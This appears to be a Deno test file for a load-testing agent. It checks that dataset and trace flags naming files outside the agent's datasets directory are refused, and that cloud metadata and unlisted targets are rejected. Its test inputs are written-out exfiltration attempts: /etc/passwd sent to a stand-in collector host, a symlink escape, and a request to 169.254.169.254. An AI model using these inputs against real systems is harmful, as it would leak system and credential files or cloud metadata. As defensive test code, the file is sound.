import assert from "node:assert/strict";
import { join } from "node:path";
import { agentAt } from "../helpers/agent_client.ts";

/** A listener standing in for an attacker's collector: counts every connection it gets. */
function collector() {
  let connections = 0;
  const listener = Deno.listen({ hostname: "127.0.0.2", port: 0 });
  (async () => {
    for await (const c of listener) {
      connections++;
      c.close();
    }
  })().catch(() => {});
  return {
    port: (listener.addr as Deno.NetAddr).port,
    get connections() {
      return connections;
    },
    close: () => listener.close(),
  };
}

Deno.test("agent: a registration naming a file outside <data-dir>/datasets is a 400 and nothing is sent", async () => {
  const dir = await Deno.makeTempDir();
  const sink = collector();
  const { agent, call } = await agentAt(dir, { readRules: { dirs: [], targets: ["127.0.0.2"] } });
  try {
    const exfiltrate = await call("POST", "/tests", {
      scenario: "smoke",
      args: [
        "--url",
        `http://127.0.0.2:${sink.port}/v1`,
        "--dataset",
        "/etc/passwd",
        "--dataset-format",
        "csv",
        "--prompt-column",
        "root:x:0:0:root:/root:/bin/bash",
        "--dataset-on-error",
        "skip",
        "--requests",
        "3",
      ],
    });
    assert.equal(exfiltrate.status, 400, exfiltrate.text);
    assert.match(
      exfiltrate.text,
      /--dataset \/etc\/passwd: files a registration names must be in .*datasets/,
    );
    for (
      const flag of [["--trace", "/etc/hosts"], ["--tokenizer", "/etc"], [
        "--text-source",
        "/etc/hostname",
      ]]
    ) {
      const r = await call("POST", "/tests", {
        args: ["--url", `http://127.0.0.2:${sink.port}/v1`, "--requests", "1", ...flag],
      });
      assert.equal(r.status, 400, r.text);
      assert.match(r.text, new RegExp(`${flag[0]} ${flag[1]}: files a registration names`));
    }
    // A file in the agent's datasets/ directory is fine (a symlink out of it is not).
    await Deno.mkdir(join(dir, "datasets"));
    await Deno.writeTextFile(join(dir, "datasets", "p.jsonl"), '{"prompt":"hi"}\n');
    await Deno.symlink("/etc/passwd", join(dir, "datasets", "link.csv"));
    const ok = await call("POST", "/tests", {
      args: ["--target", "sim", "--requests", "1", "--dataset", join(dir, "datasets", "p.jsonl")],
    });
    assert.equal(ok.status, 201, ok.text);
    const link = await call("POST", "/tests", {
      args: ["--target", "sim", "--requests", "1", "--dataset", join(dir, "datasets", "link.csv")],
    });
    assert.equal(link.status, 400, link.text);
    await new Promise((r) => setTimeout(r, 200));
    assert.equal(sink.connections, 0, "the collector received nothing");
  } finally {
    sink.close();
    await agent.close();
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("agent: targets are loopback or --allow-target; metadata addresses need to be named", async () => {
  const dir = await Deno.makeTempDir();
  const { agent, call } = await agentAt(dir, {
    readRules: { dirs: [], targets: ["*.lab.example"] },
  });
  try {
    const reg = (url: string) =>
      call("POST", "/tests", { args: ["--url", url, "--requests", "1"] });
    const meta = await reg("http://169.254.169.254/v1");
    assert.equal(meta.status, 400, meta.text);
    assert.match(
      meta.text,
      /link-local and metadata addresses are refused.*--allow-target 169\.254\.169\.254/,
    );
    const other = await reg("http://10.1.2.3:8000/v1");
    assert.equal(other.status, 400);
    assert.match(other.text, /--allow-target 10\.1\.2\.3/);
    assert.equal((await reg("http://gpu1.lab.example:8000/v1")).status, 201);
    assert.equal((await reg("http://127.0.0.1:8000/v1")).status, 201);
  } finally {
    await agent.close();
    await Deno.remove(dir, { recursive: true });
  }
});
